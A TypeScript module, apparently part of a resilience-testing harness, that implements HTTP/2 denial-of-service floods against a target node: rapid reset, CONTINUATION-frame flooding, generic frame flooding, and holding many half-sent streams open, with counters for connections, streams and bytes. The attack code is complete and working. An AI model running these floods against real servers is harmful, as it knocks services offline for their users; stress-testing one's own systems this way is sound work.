import { setTimeout as pause } from 'node:timers/promises';
import { METHODS } from '../../inputs/table.js';
import {
  callHeaders,
  CONTINUATION,
  DATA,
  END_HEADERS,
  frame,
  FrameConnection,
  headerBlock,
  HEADERS,
  RST_STREAM,
} from '../../support/wire/http2-frames.js';
import type { Flood, FloodCounts } from '../flood.js';

/* Floods of HTTP/2 frames that ask for nothing. */

const CHUNK_FRAMES = 512;
const REFUSED_PAUSE_MS = 20;
/** What one connection may have open. */
const STREAMS = 100;

/** The same frame, as fast as the connection takes it. */
export function frames(one: Buffer): Flood {
  const chunk = Buffer.concat(Array.from({ length: CHUNK_FRAMES }, () => one));
  return repeated(async (connection, isOver) => {
    while (!connection.isOver && !isOver()) await connection.write(chunk);
  });
}

/** One connection after the other, each used until the node closes it. */
function repeated(
  use: (connection: FrameConnection, isOver: () => boolean, counts: FloodCounts) => Promise<void>,
): Flood {
  const run: Flood['run'] = async (target, counts) => {
    const end = performance.now() + target.ms;
    const isOver = (): boolean => performance.now() >= end;
    while (!isOver()) {
      counts.connections += 1;
      const connection = await FrameConnection.open(target.address, target.tls).catch(
        () => undefined,
      );
      // The node takes so many handshakes of one address, and closes what is beyond them.
      if (connection === undefined) {
        counts.closed += 1;
        await pause(REFUSED_PAUSE_MS);
        continue;
      }
      // One that is given up but not closed is not waited for beyond the end.
      const late = setTimeout(() => connection.close(), Math.max(end - performance.now(), 0));
      await use(connection, isOver, counts);
      if (connection.isOver && !isOver()) counts.closed += 1;
      counts.bytes += connection.socket.bytesWritten;
      connection.close();
      clearTimeout(late);
    }
  };
  return { as: 'operator', run };
}

export function continuation(): Flood {
  const part = headerBlock({ 'x-part': 'a'.repeat(1_000) });
  return repeated(async (connection, isOver, counts) => {
    counts.streams += 1;
    await connection.write(frame(HEADERS, 0, 1, headerBlock(callHeaders(METHODS.sign))));
    while (!connection.isOver && !isOver()) await connection.write(frame(CONTINUATION, 0, 1, part));
  });
}

export function rapidReset(): Flood {
  const block = headerBlock(callHeaders(METHODS.sign));
  const cancel = Buffer.of(0, 0, 0, 8);
  return repeated(async (connection, isOver, counts) => {
    for (let stream = 1; !connection.isOver && !isOver(); stream += 2) {
      const opened = frame(HEADERS, END_HEADERS, stream, block);
      counts.streams += 1;
      await connection.write(Buffer.concat([opened, frame(RST_STREAM, 0, stream, cancel)]));
    }
  });
}

export function halfMessages(): Flood {
  const block = headerBlock(callHeaders(METHODS.sign));
  const half = Buffer.of(0, 0, 0, 0, 10, 1);
  return repeated(async (connection, isOver, counts) => {
    for (let at = 0; at < STREAMS; at++) {
      const stream = 2 * at + 1;
      counts.streams += 1;
      await connection.write(
        Buffer.concat([frame(HEADERS, END_HEADERS, stream, block), frame(DATA, 0, stream, half)]),
      );
    }
    while (!connection.isOver && !isOver()) await pause(20);
  });
}
